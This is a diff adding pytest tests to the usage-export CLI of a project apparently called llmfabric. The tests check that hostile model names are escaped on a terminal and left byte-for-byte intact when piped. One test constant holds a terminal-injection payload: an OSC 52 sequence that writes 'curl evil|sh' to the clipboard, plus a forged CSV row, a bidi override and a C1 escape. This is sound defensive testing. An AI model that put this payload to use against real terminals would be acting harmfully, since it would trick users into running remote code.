@@ -81,3 +81,72 @@ def test_cli_exports_the_ledger(tmp_path: pathlib.Path) -> None:
     assert got.exit_code == 0 and json.loads(target.read_text())["totals"]["requests"] == 1
     bad = runner.invoke(usage_export, ["--db", db, "--since", "tomorrow"])
     assert bad.exit_code != 0 and "YYYY-MM-DD" in bad.output
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard
+HOSTILE = "m" + OSC52 + "\n2026-01-01,k9,admin,m,1,1,1,2,0\u202e\x9b2J"
+
+
+def _ledger(tmp_path: pathlib.Path, model: str) -> str:
+    import asyncio
+
+    from llmfabric.accounts.store import AccountStore
+
+    db = str(tmp_path / "a.db")
+
+    async def add() -> None:
+        store = await AccountStore.open(db, background=False)
+        key, _ = await store.create_key("a", "alice")
+        store.record_usage(key.id, model, 5, 6)
+        store.record_usage(key.id, "zürich-llama", 1, 1)
+        await store.aclose()
+
+    asyncio.run(add())
+    return db
+
+
+@pytest.mark.hostile
+@pytest.mark.parametrize("fmt", ["csv", "json"])
+def test_a_model_name_cannot_drive_the_terminal(tmp_path: pathlib.Path, fmt: str,
+                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    """`keys usage-export` without -o on a terminal: a client's model name with OSC 52, a
+    newline that forges a row, a bidi override and a C1 CSI is shown escaped; piped, the
+    export stays byte for byte (data for other tools)."""
+    from llmfabric.cli import usage_export as cmd
+
+    db = _ledger(tmp_path, HOSTILE)
+    runner = CliRunner()
+    piped = runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt])
+    assert piped.exit_code == 0, piped.output
+    if fmt == "csv":
+        assert HOSTILE in piped.output
+    else:
+        assert HOSTILE in {r["model"] for r in json.loads(piped.output)["data"]}
+    monkeypatch.setattr(cmd, "_is_terminal", lambda: True)
+    shown = runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt])
+    assert shown.exit_code == 0, shown.output
+    out = shown.output
+    assert all(c.isprintable() or c == "\n" for c in out), repr(out)
+    assert "zürich-llama" in out
+    if fmt == "csv":
+        rows = list(csv.DictReader(io.StringIO(out)))
+        assert len(rows) == 2 and out.count("\n") == 3  # the newline opened no row
+        assert {r["model"] for r in rows} == {
+            "zürich-llama",
+            "m\\x1b]52;c;Y3VybCBldmlsfHNo\\x1b\\\\n2026-01-01,k9,admin,m,1,1,1,2,0\\u202e\\x9b2J"}
+    else:
+        assert "\n" not in out  # (JSON's own escapes: the same document)
+        assert {r["model"] for r in json.loads(out)["data"]} == {"zürich-llama", HOSTILE}
+
+
+def test_an_honest_export_on_a_terminal_is_unchanged(tmp_path: pathlib.Path,
+                                                     monkeypatch: pytest.MonkeyPatch) -> None:
+    from llmfabric.cli import usage_export as cmd
+
+    db = _ledger(tmp_path, "meta-llama/Llama-3.1-8B, \"q4\"")
+    runner = CliRunner()
+    for fmt in ("csv", "json"):
+        piped = runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt]).output
+        monkeypatch.setattr(cmd, "_is_terminal", lambda: True)
+        assert runner.invoke(cmd.usage_export, ["--db", db, "--format", fmt]).output == piped
+        monkeypatch.undo()
